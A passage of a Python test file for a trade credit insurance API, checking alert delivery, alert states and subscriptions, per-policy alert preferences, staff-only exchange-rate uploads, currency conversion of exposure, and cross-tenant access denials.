    deliveries = app_client.get(policy_url(world.policy_a, "/alert-deliveries"), headers=insured)
    assert deliveries.status_code == 200, deliveries.text
    queued = deliveries.json()["items"]
    assert {(d["alert_id"], d["channel"], d["status"], d["attempts"]) for d in queued} == {
        (alert["id"], "webhook", "pending", 0),
        (alert["id"], "email", "pending", 0),
    }

    # B sees neither the alert nor A's policy's alerts
    other = headers["insured_user_b"]
    assert_problem(app_client.get(f"{API}/alerts/{alert['id']}", headers=other), 404, "alert.not_found")
    assert_problem(app_client.get(f"{API}/alerts", params=new_alerts, headers=other), 404, "policy.not_found")
    assert alert["id"] not in app_client.get(f"{API}/alerts", headers=other).text
    assert_problem(
        app_client.post(f"{API}/alerts/{alert['id']}/state", json={"state": "closed"}, headers=other),
        404,
        "alert.not_found",
    )

    state = f"{API}/alerts/{alert['id']}/state"
    seen = app_client.post(state, json={"state": "seen"}, headers=insured)
    assert (seen.status_code, seen.json()["state"]) == (200, "seen")
    assert app_client.get(f"{API}/alerts", params=new_alerts, headers=insured).json()["items"] == []
    listed_seen = app_client.get(
        f"{API}/alerts", params={"policy_id": world.policy_a, "state": "seen"}, headers=insured
    )
    assert [a["id"] for a in listed_seen.json()["items"]] == [alert["id"]]
    closed = app_client.post(state, json={"state": "closed"}, headers=insured)
    assert (closed.status_code, closed.json()["state"]) == (200, "closed")
    assert_problem(
        app_client.post(state, json={"state": "seen"}, headers=insured), 409, "alert.invalid_transition", "state"
    )
    assert_problem(app_client.post(state, json={"state": "new"}, headers=insured), 422, "request.invalid", "state")
    assert app_client.get(f"{API}/alerts/{alert['id']}", headers=insured).json()["state"] == "closed"

    # unsubscribed: listed inactive; B's subscription is not reachable through A's policy
    gone = app_client.delete(f"{subscriptions}/{email.json()['id']}", headers=insured)
    assert gone.status_code == 204, gone.text
    states = {s["id"]: s["active"] for s in app_client.get(subscriptions, headers=insured).json()}
    assert states == {webhook.json()["id"]: True, email.json()["id"]: False}
    theirs = app_client.post(
        policy_url(world.policy_b, "/alert-subscriptions"),
        json={"channel": "email", "target": "credit@insured-b.example"},
        headers=other,
    ).json()
    assert_problem(
        app_client.delete(f"{subscriptions}/{theirs['id']}", headers=headers["admin"]),
        404,
        "alert_subscription.not_found",
    )


def test_alert_preferences(app_client: TestClient, world: World, headers: Headers) -> None:
    insured = headers["insured_user"]
    url = policy_url(world.policy_a, "/alert-preferences")
    assert app_client.get(url, headers=insured).json() == {"utilisation_threshold": "0.80", "deadline_warning_days": 15}
    changed = app_client.put(url, json={"utilisation_threshold": "0.90", "deadline_warning_days": 30}, headers=insured)
    assert changed.status_code == 200, changed.text
    assert app_client.get(url, headers=insured).json() == {"utilisation_threshold": "0.90", "deadline_warning_days": 30}
    assert_problem(
        app_client.put(url, json={"utilisation_threshold": "0.01", "deadline_warning_days": 30}, headers=insured),
        422,
        "alerts.bad_threshold",
        "utilisation_threshold",
    )
    assert_problem(
        app_client.put(url, json={"utilisation_threshold": "1.5", "deadline_warning_days": 30}, headers=insured),
        422,
        "request.invalid",
        "utilisation_threshold",
    )
    # at 82 % of the limit, under the 90 % threshold: no alert
    assert record(app_client, insured, world.policy_a, invoice(world.buyer_a, "T-1", net="41000.00")).status_code == 201
    listed = app_client.get(f"{API}/alerts", params={"policy_id": world.policy_a}, headers=insured).json()
    assert [a["kind"] for a in listed["items"]] == []


def test_exchange_rates_are_for_the_insurers_staff(app_client: TestClient, world: World, headers: Headers) -> None:
    rates = {"rates": [{"currency": "USD", "quote": "EUR", "on": "2026-03-13", "rate": "0.92"}]}
    added = app_client.post(f"{API}/exchange-rates", json=rates, headers=headers["underwriter"])
    assert (added.status_code, added.json()) == (201, {"added": 1})
    again = app_client.post(f"{API}/exchange-rates", json=rates, headers=headers["underwriter"])
    assert (again.status_code, again.json()) == (201, {"added": 0})
    assert_problem(
        app_client.post(f"{API}/exchange-rates", json=rates, headers=headers["insured_user"]), 403, "auth.forbidden"
    )
    bad = {"rates": [{"currency": "USD", "quote": "EUR", "on": "2026-03-13", "rate": "0"}]}
    assert_problem(
        app_client.post(f"{API}/exchange-rates", json=bad, headers=headers["admin"]), 422, "rate.invalid", "rate"
    )
    unknown = {"rates": [{"currency": "XXY", "quote": "EUR", "on": "2026-03-13", "rate": "1.1"}]}
    assert_problem(
        app_client.post(f"{API}/exchange-rates", json=unknown, headers=headers["admin"]), 422, "money.unknown_currency"
    )
    # a USD invoice is converted at the latest rate on or before the exposure date
    usd = invoice(
        world.buyer_a,
        "US-1",
        amount_excl_vat={"amount": "1000.00", "currency": "USD"},
        vat_amount={"amount": "0.00", "currency": "USD"},
    )
    assert record(app_client, headers["insured_user"], world.policy_a, usd).status_code == 201
    exposure = app_client.get(policy_url(world.policy_a, "/exposure"), headers=headers["insured_user"]).json()
    assert exposure["outstanding"] == eur("920.00")
    assert exposure["buyers"][0]["unconverted_invoices"] == []


def test_every_buyer_of_an_exposure_is_readable_by_the_insured(
    app_client: TestClient, world: World, headers: Headers
) -> None:
    record(app_client, headers["admin"], world.policy_a, invoice(world.buyer_b, "ODD-1"))
    exposure = app_client.get(policy_url(world.policy_a, "/exposure"), headers=headers["insured_user"]).json()
    for buyer in exposure["buyers"]:
        assert app_client.get(f"{API}/buyers/{buyer['buyer_id']}", headers=headers["insured_user"]).status_code == 200
